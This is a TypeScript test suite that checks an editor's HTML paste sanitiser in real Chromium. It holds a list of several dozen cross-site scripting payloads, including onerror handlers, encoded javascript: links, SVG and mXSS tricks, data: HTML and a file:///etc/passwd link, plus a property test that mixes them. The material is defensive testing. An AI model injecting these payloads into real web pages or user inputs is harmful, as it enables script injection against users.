import { build } from 'esbuild';
import fc from 'fast-check';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { chromium, type Browser, type Page } from '@playwright/test';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { figuresFor } from '../../../main/core/reliability/testing/figures';
import type { ProbeResult } from './pasteProbe';

/**
 * HTML pasted into the section editor, carrying the payloads of known exploits of Electron
 * editors (img onerror, javascript: links, iframes, SVG with script, data: HTML, mXSS tricks).
 * The paste sanitiser runs in real Chromium, as in the app (DOMPurify relies on the browser's
 * own parser; under a simulated DOM it lets <script> through, which says nothing about the app).
 * Nothing active may remain, no handler may run, and the editor schema must parse what is left
 * into a document with only allowed links.
 */
const figures = figuresFor(import.meta.filename);
const CHROMIUM = process.env.CASEBOOK_CHROMIUM ?? '/usr/bin/chromium';
const skip = existsSync(CHROMIUM) ? null : `no Chromium at ${CHROMIUM} (set CASEBOOK_CHROMIUM)`;
if (skip) console.log(`hostile paste tests skipped: ${skip}`);

export const PAYLOADS = [
  '<img src=x onerror="alert(1)">',
  '<img src="x" onerror=alert(1)//>text after',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
  '<a href="java&#x09;script:alert(1)">tab entity</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
  '<a href=" javascript:alert(1)">leading space</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data html</a>',
  '<a href="file:///etc/passwd">file</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>svg link</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="import" href="http://evil.example/x.html">',
  '<style>@import "javascript:alert(1)"; p { background: url(javascript:alert(1)) }</style><p>styled</p>',
  '<p style="background-image:url(javascript:alert(1))">inline style</p>',
  '<div onclick="alert(1)" onmouseover="alert(1)">handlers</div>',
  '<details open ontoggle=alert(1)>toggle</details>',
  '<video><source onerror="alert(1)"></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<p>before<script>alert(1)</script>after</p>',
  '<a href="https://example.org" target="_blank" rel="opener">ok link, no target</a>',
  '<table><tr><td background="javascript:alert(1)">cell</td></tr></table>',
  '<span data-citation="x" data-items=\'[{"id":"<img src=x onerror=alert(1)>"}]\'>cite</span>',
  '<a href="https://example.org/&quot;onmouseover=&quot;alert(1)">quoted</a>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="data:image/svg+xml,<svg onload=alert(1)>">svg data</a>',
];

let browser: Browser | undefined;
let page: Page;
const fired: string[] = [];

beforeAll(async () => {
  if (skip) return;
  const bundle = await build({
    entryPoints: [join(import.meta.dirname, 'pasteProbe.ts')],
    bundle: true,
    write: false,
    format: 'iife',
    platform: 'browser',
    target: 'chrome120',
    logLevel: 'silent',
  });
  browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
  page = await browser.newPage();
  // Any dialog means a payload ran.
  page.on('dialog', (dialog) => {
    fired.push(dialog.message());
    void dialog.dismiss();
  });
  await page.setContent('<!DOCTYPE html><html><body></body></html>');
  await page.addScriptTag({ content: bundle.outputFiles[0]!.text });
}, 120_000);

afterAll(async () => {
  await browser?.close();
});

const probe = (html: string) => page.evaluate((h) => (window as unknown as { casebookProbe(h: string): ProbeResult }).casebookProbe(h), html);

describe.skipIf(skip)('pasted HTML carrying exploit payloads (real Chromium)', () => {
  it.each(PAYLOADS)('neutralises %s', async (html) => {
    const started = Date.now();
    const result = await probe(html);
    expect(result.problems, `${html}\n→ ${result.clean}`).toEqual([]);
    expect(Date.now() - started).toBeLessThan(10_000);
    figures.add({ payloads: 1 });
  });

  it('keeps the ordinary text around the payloads', async () => {
    expect((await probe('<p>before<script>alert(1)</script>after</p>')).clean).toBe('<p>beforeafter</p>');
    expect((await probe('<a href="javascript:alert(1)">click</a>')).clean).toBe('click');
    expect((await probe('<a href="https://example.org">safe</a>')).clean).toBe('<a href="https://example.org">safe</a>');
  });

  it('any mix of payloads, tags, attributes and text is neutralised (property)', async () => {
    const tag = fc.constantFrom('p', 'a', 'div', 'span', 'svg', 'math', 'img', 'iframe', 'script', 'table', 'td', 'style', 'noscript', 'template', 'b', 'h1', 'li', 'object', 'form');
    const attr = fc.tuple(
      fc.constantFrom('href', 'src', 'onerror', 'onload', 'style', 'xlink:href', 'data-items', 'srcdoc', 'title', 'action', 'data'),
      fc.constantFrom('javascript:alert(1)', ' JAVASCRIPT:alert(1)', 'data:text/html,<script>alert(1)</script>', 'https://example.org', 'x" onerror="alert(1)', '"><img src=x onerror=alert(1)>', 'url(javascript:alert(1))'),
    );
    const element = fc.letrec<{ el: string }>((tie) => ({
      el: fc.oneof(
        { depthSize: 'small' },
        fc.string({ maxLength: 20 }),
        fc.constantFrom(...PAYLOADS),
        fc
          .tuple(tag, fc.array(attr, { maxLength: 3 }), fc.array(tie('el'), { maxLength: 3 }))
          .map(([t, attrs, kids]) => `<${t}${attrs.map(([n, v]) => ` ${n}="${v.replace(/"/g, '&quot;')}"`).join('')}>${kids.join('')}</${t}>`),
      ),
    })).el;
    let runs = 0;
    await fc.assert(
      fc.asyncProperty(fc.array(element, { maxLength: 5 }), async (parts) => {
        runs++;
        const html = parts.join('');
        const result = await probe(html);
        expect(result.problems, `${html}\n→ ${result.clean}`).toEqual([]);
      }),
      { numRuns: 300 },
    );
    figures.add({ cases: runs });
  });

  it('no payload ever ran', async () => {
    // Handlers such as onerror fire a moment after insertion; give them that moment.
    await page.waitForTimeout(500);
    expect(fired).toEqual([]);
  });
});
